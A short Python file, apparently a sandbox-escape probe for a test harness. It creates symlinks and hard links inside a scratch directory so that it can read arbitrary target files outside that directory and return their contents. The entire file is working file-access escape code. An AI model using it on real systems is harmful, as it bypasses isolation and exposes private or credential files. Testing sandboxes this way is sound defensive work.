"""Use symlinks and hard links inside scratch to reach a file outside it."""

import os


def attack(event, ctx):
    got, errors = {}, []
    scratch = event.get("scratch") or os.getcwd()
    for i, target in enumerate(event["targets"]):
        sym = os.path.join(scratch, f"sym{i}")
        hard = os.path.join(scratch, f"hard{i}")
        try:
            os.symlink(target, sym)
            with open(sym, "rb") as fh:
                got[f"sym:{target}"] = fh.read().decode("latin-1")
        except Exception as exc:
            errors.append(f"symlink {target}: {type(exc).__name__}")
        try:
            os.link(target, hard)
            with open(hard, "rb") as fh:
                got[f"hard:{target}"] = fh.read().decode("latin-1")
        except Exception as exc:
            errors.append(f"link {target}: {type(exc).__name__}")
    return {"got": got, "errors": errors}
